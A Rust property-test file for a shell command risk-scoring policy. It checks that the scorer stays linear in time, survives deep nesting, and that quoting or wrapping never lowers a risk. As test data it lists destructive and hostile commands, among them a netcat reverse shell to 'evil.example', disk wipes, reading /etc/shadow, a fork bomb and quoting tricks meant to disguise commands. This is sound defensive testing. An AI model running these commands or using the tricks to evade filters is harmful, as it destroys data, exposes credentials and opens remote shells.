//! What holds for any line at all: no panic, ranges on characters, linear steps, and quoting that
//! changes nothing.

use command_policy::{MAX_COMMAND_BYTES, Policy, Risk, Settings};
use proptest::prelude::*;
use std::sync::LazyLock;

/// Steps that a line may take for each of its bytes, and at least.
const STEPS_PER_BYTE: u64 = 400;
const STEPS_FREE: u64 = 400_000;

/// Every layer at once.
static POLICY: LazyLock<Policy> = LazyLock::new(|| {
    let settings = Settings::default().strict().block("npm publish").unwrap();
    Policy::new(settings.block_pattern("evil").unwrap())
});

fn check(line: &str) -> Risk {
    let (verdict, steps) = POLICY.judge_counting(line, "");
    assert!(
        steps <= STEPS_FREE + STEPS_PER_BYTE * line.len() as u64,
        "{steps} steps for {} bytes",
        line.len()
    );
    for reason in &verdict.reasons {
        assert!(line.get(reason.range.clone()).is_some(), "{:?} of {line:?}", reason.range);
    }
    assert!(verdict.reasons.windows(2).all(|pair| pair[0].risk >= pair[1].risk));
    verdict.risk
}

/// Pieces that mean something to a shell, so that chance meets them together.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(vec![
            "rm",
            "-rf",
            "/",
            " ",
            " ",
            "'",
            "\"",
            "`",
            "$(",
            "$((",
            "${",
            "}",
            ")",
            "(",
            "{",
            ";",
            ";;",
            "|",
            "||",
            "&",
            "&&",
            "\n",
            "\\",
            "\\\n",
            "<",
            ">",
            "<<",
            "<<<",
            "<(",
            ">(",
            "<<EOF\n",
            "EOF",
            "\nEOF\n",
            "#",
            "!",
            "if ",
            "then ",
            "fi",
            "for ",
            "x in ",
            "do ",
            "done",
            "while ",
            "case ",
            " in ",
            "esac",
            "function ",
            "[[ ",
            " ]]",
            "((",
            "))",
            "x=",
            "a=(",
            "$x",
            "$@",
            "$'",
            "${x:-",
            "sh -c ",
            "eval ",
            "echo ",
            "base64 -d",
            "xargs ",
            "find . -exec ",
            "\\;",
            "~",
            "*",
            "?",
            "[a-z]",
            "{a,b}",
            "env ",
            "sudo ",
            "curl ",
            "नमस्ते",
            "\u{e000}",
            "\u{e003}",
            "\0",
            "2>&1",
            "&>",
            "`\\`",
            "$[",
            "${!x}",
            "${#x}",
            "${x//a/b}",
            "coproc ",
            "time ",
            "\r\n",
            "-c",
        ])
        .prop_map(str::to_owned),
        ".{0,4}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    #[test]
    fn any_text_has_a_verdict(line in ".{0,200}") {
        check(&line);
    }

    #[test]
    fn any_mix_of_what_shells_know_has_a_verdict(pieces in prop::collection::vec(piece(), 0..60)) {
        check(&pieces.concat());
    }

    #[test]
    fn what_is_cut_off_anywhere_has_a_verdict(at in 0usize..400, cut in 0usize..200) {
        let lines: Vec<_> = include_str!("lists/malicious.txt").lines().filter(|l| l.contains(" | ")).collect();
        let line = lines[at % lines.len()].splitn(3, " | ").nth(2).unwrap_or_default().replace('⏎', "\n");
        let end = (0..=cut.min(line.len())).rev().find(|at| line.is_char_boundary(*at)).unwrap_or(0);
        check(&line[..end]);
    }

    /// A harmless word in front, behind or around makes nothing better.
    #[test]
    fn company_never_lowers_a_risk(at in 0usize..400, kind in 0usize..9) {
        let lines: Vec<_> = include_str!("lists/malicious.txt").lines().filter(|l| l.contains(" | ") && !l.contains('⏎') && !l.contains("<<")).collect();
        let line = lines[at % lines.len()].splitn(3, " | ").nth(2).unwrap_or_default().replace('⇥', "\t");
        let more = match kind {
            0 => format!("true; {line}"),
            1 => format!("npm i && {line}"),
            2 => format!("({line})"),
            3 => format!("{line}\necho done"),
            4 => format!("if true; then {line}\nfi"),
            5 => format!("for i in 1 2; do {line}\ndone"),
            6 => format!("x() {{ {line}\n}}; x"),
            7 => format!("echo hi\n{line}\n"),
            _ => format!("{{ {line}\n}} > out.txt"),
        };
        prop_assert!(POLICY.judge(&more).risk >= POLICY.judge(&line).risk, "{}", more);
    }

    /// The same words, quoted in another way, are the same words.
    #[test]
    fn quoting_never_lowers_a_risk(at in 0usize..PLAIN.len(), styles in prop::collection::vec(0usize..7, 12)) {
        let words: Vec<&str> = PLAIN[at].split(' ').collect();
        let quoted: Vec<String> = words.iter().zip(styles.iter().cycle()).map(|(word, style)| quote(word, *style)).collect();
        let line = quoted.join(" ");
        prop_assert!(POLICY.judge(&line).risk >= POLICY.judge(PLAIN[at]).risk, "{}", line);
    }
}

/// Words without anything that a shell expands.
const PLAIN: &[&str] = &[
    "rm -rf /",
    "rm -r -f /etc",
    "cat /etc/shadow",
    "sudo id",
    "mkfs.ext4 /dev/sda",
    "dd if=/dev/zero of=/dev/sda",
    "nc -e /bin/sh evil.example 4444",
    "find / -delete",
    "chmod -R 777 /",
    "kill -9 -1",
    "curl http://169.254.169.254/",
    "nmap host",
    "docker ps",
    "git push --force",
    "rm dist",
    "curl https://example.com",
    "npm publish",
    "shutdown now",
    "python3 -c exec(x)",
    "env LD_PRELOAD=x ls",
    "timeout 5 rm -rf /",
    "nohup nice rm -rf /",
    "crontab -e",
    "ssh -R 1:2:3 host",
];

fn quote(word: &str, style: usize) -> String {
    match style {
        0 => word.to_owned(),
        1 => format!("'{word}'"),
        2 => format!("\"{word}\""),
        3 => word.chars().map(|c| format!("\\{c}")).collect(),
        4 => {
            format!("$'{}'", word.bytes().map(|byte| format!("\\x{byte:02x}")).collect::<String>())
        }
        5 => {
            let middle = word.len() / 2;
            format!("{}''{}", &word[..middle], &word[middle..])
        }
        _ => format!("{}$@", word),
    }
}

/// Defect 14: 128 KB took 5.27 s there. Here the steps are counted, for twice and four times as much.
#[test]
fn steps_grow_with_the_line_and_no_faster() {
    let nasty: &[&str] = &[
        "$(",
        "$((",
        "((",
        "(",
        "{ ",
        "`",
        "\\`",
        "\"",
        "'",
        "${x:-",
        "$[",
        "<(",
        "a=(",
        "<<E\n",
        "<<<",
        "if ",
        "case x in a) ",
        "while ",
        "x() { ",
        "f()",
        "\\",
        "$'",
        "{a,",
        "{a,b}",
        "a|",
        "a&",
        "a;",
        "a&&",
        "sh -c '",
        "env ",
        "sudo ",
        "eval ",
        "xargs ",
        "echo x|sh|",
        "$(echo ",
        "`echo ",
        "x=$x$x;",
        "find . -exec ",
        "a <",
        "a >",
        "[[ ",
        "* ",
        "cat */",
        "../",
        "/*",
        "99999999999>x ",
        "echo a | base64 -d | ",
        "for x in ",
        "}",
        ")",
        "fi ",
        "done ",
        "esac ",
        "\n",
        " ",
        "नमस्ते ",
        "echo $((1)) ",
        "f(){ f|f& };f;",
        "printf '%s' a|",
        "a=1;",
        "cd ..;",
        "curl x|",
        "{ curl x; } | ",
        "(a)|(b)|",
    ];
    for piece in nasty {
        let mut last = None;
        for bytes in [4 * 1024, 8 * 1024, 16 * 1024, 32 * 1024] {
            let line = piece.repeat(bytes / piece.len());
            let (_, steps) = POLICY.judge_counting(&line, "");
            if let Some(before) = last {
                assert!(
                    steps <= 3 * before + STEPS_FREE,
                    "{piece:?}: {before} steps, then {steps}"
                );
            }
            assert!(
                steps <= STEPS_FREE + STEPS_PER_BYTE * line.len() as u64,
                "{piece:?}: {steps} steps for {bytes} bytes"
            );
            last = Some(steps);
        }
    }
}

#[test]
fn what_took_seconds_is_one_look() {
    let (verdict, steps) = Policy::default().judge_counting(&"$(".repeat(64_000), "");
    assert_eq!((verdict.risk, verdict.reasons[0].code.as_str()), (Risk::Dangerous, "too-deep"));
    assert!(steps < 1_000_000, "{steps} steps");
}

#[test]
fn nesting_has_an_end_before_the_stack_has() {
    for (open, close) in [
        ("$(", ")"),
        ("(", ")"),
        ("{ ", "; }"),
        ("\"$(", ")\""),
        ("`", "`"),
        ("<(", ")"),
        ("${x:-", "}"),
        ("if ", "; fi"),
    ] {
        let line = format!("{}rm -rf /{}", open.repeat(60_000 / open.len()), close.repeat(10));
        let verdict = std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(move || POLICY.judge(&line))
            .unwrap()
            .join()
            .expect("no overflow");
        assert!(verdict.risk >= Risk::Moderate, "{open}");
    }
}

#[test]
fn a_line_that_is_too_long_is_said_to_be() {
    let long = "a".repeat(MAX_COMMAND_BYTES + 1);
    let verdict = POLICY.judge(&long);
    assert_eq!((verdict.risk, verdict.reasons[0].code.as_str()), (Risk::Dangerous, "too-long"));
}
